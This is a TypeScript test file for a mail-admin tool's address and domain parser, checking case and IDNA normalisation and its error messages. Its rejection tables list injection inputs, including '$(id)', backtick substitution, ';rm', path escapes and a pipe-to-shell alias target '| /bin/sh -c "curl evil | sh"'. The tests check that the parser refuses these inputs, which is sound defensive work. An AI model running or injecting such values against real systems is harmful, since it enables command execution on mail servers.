import { describe, expect, it } from 'vitest';
import { mailopsErrorOf } from '../../test/errors.ts';
import { parseAliasAddress, parseManagedAddress, parseManagedDomain, parseTargets } from './address.ts';
import { displayDomain, managedDomain } from './domain.ts';

const domains = ['example.com', 'xn--bcher-kva.example'];

describe('managed addresses', () => {
  it('normalises case and IDNA domains', () => {
    expect(parseManagedAddress('Alice.Smith@EXAMPLE.com', domains)).toEqual({
      local: 'alice.smith',
      domain: 'example.com',
      address: 'alice.smith@example.com',
    });
    expect(parseManagedAddress('info@Bücher.example', domains).domain).toBe('xn--bcher-kva.example');
  });

  it.each([
    ['no @', 'alice'],
    ['empty local part', '@example.com'],
    ['two @', 'a@b@example.com'],
    ['path escape', 'x@../escape'],
    ['slash', 'a/b@example.com'],
    ['dot dot', 'a..b@example.com'],
    ['leading dot', '.a@example.com'],
    ['leading dash', '-rf@example.com'],
    ['space', 'a b@example.com'],
    ['tab', 'a\tb@example.com'],
    ['newline', 'a\nb@example.com'],
    ['NUL', 'a\u0000b@example.com'],
    ['semicolon', 'a;rm@example.com'],
    ['command substitution', '$(id)@example.com'],
    ['backtick', '`id`@example.com'],
    ['quote', "o'brien@example.com"],
    ['pipe', 'a|b@example.com'],
    ['plus (suffix separator)', 'a+b@example.com'],
    ['non-ASCII local part', 'jürgen@example.com'],
    ['over-long local part', `${'a'.repeat(65)}@example.com`],
    ['over-long address', `${'a'.repeat(60)}@${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.com`],
    ['unmanaged domain', 'alice@example.org'],
    ['domain with a path', 'alice@example.com/../x'],
    ['catch-all as a sender', '*@example.com'],
  ])('refuses %s', (_name, input) => {
    const error = mailopsErrorOf(() => parseManagedAddress(input, domains));
    expect(error.exitCode).toBe(2);
    expect(error.message.length).toBeGreaterThan(10);
  });
});

describe('alias addresses and targets', () => {
  it('accepts the catch-all', () => {
    expect(parseAliasAddress('*@Example.com', domains).address).toBe('*@example.com');
  });

  it('completes bare names with the alias domain, keeps remote targets and +tags, drops duplicates', () => {
    expect(parseTargets(' alice , Bob+News@GMAIL.com,alice@example.com,', 'example.com')).toEqual([
      'alice@example.com',
      'bob+news@gmail.com',
    ]);
  });

  it.each([
    ['a pipe command', '| /bin/sh -c "curl evil | sh"'],
    ['an empty list', ' , '],
    ['a quote', 'a"b@example.com'],
    ['command substitution', '$(id)@example.com'],
    ['two @', 'a@b@example.com'],
    ['a newline', 'alice\n@example.com'],
    ['a bad domain', 'alice@exa mple.com'],
    ['a leading dash', '-f@example.com'],
  ])('refuses %s as targets', (_name, input) => {
    expect(mailopsErrorOf(() => parseTargets(input, 'example.com')).exitCode).toBe(2);
  });
});

describe('messages about the domain of an address', () => {
  it('name the part after "@" as the subject of the sentence', () => {
    expect(mailopsErrorOf(() => parseManagedAddress('alice@', domains)).message).toBe(
      'The address "alice@" is not valid: the part after "@" is empty.'
    );
    expect(mailopsErrorOf(() => parseManagedAddress('alice@localhost', domains)).message).toBe(
      'The address "alice@localhost" is not valid: the part after "@" needs at least two labels, like example.com.'
    );
    expect(mailopsErrorOf(() => parseTargets('bob@', 'example.com')).message).toBe(
      'The target "bob@" is not valid: the part after "@" is empty.'
    );
  });

  it('a domain mailops does not manage is one error, the same from an address, an alias, a domain argument and an operation', () => {
    const errors = [
      mailopsErrorOf(() => parseManagedAddress('alice@example.org', domains)),
      mailopsErrorOf(() => parseAliasAddress('*@example.org', domains)),
      mailopsErrorOf(() => parseManagedDomain('example.org', domains)),
      mailopsErrorOf(() => managedDomain('Example.ORG', domains)),
    ];
    for (const error of errors) {
      expect(error).toMatchObject({
        code: 'domain-not-managed',
        exitCode: 2,
        hint: 'Give a domain listed in MAIL_DOMAINS, or add it there.',
      });
      expect(error.message).toBe(
        'example.org is not one of the domains mailops manages (MAIL_DOMAINS: example.com, bücher.example (xn--bcher-kva.example)).'
      );
    }
  });
});

describe('internationalised domains for people', () => {
  it('are shown in both forms, Unicode first; other domains as they are', () => {
    expect(displayDomain('xn--bcher-kva.example')).toBe('bücher.example (xn--bcher-kva.example)');
    expect(displayDomain('example.com')).toBe('example.com');
    expect(mailopsErrorOf(() => managedDomain('müller.example', domains)).message).toMatch(
      /^müller\.example \(xn--mller-kva\.example\) is not one of/
    );
  });
});
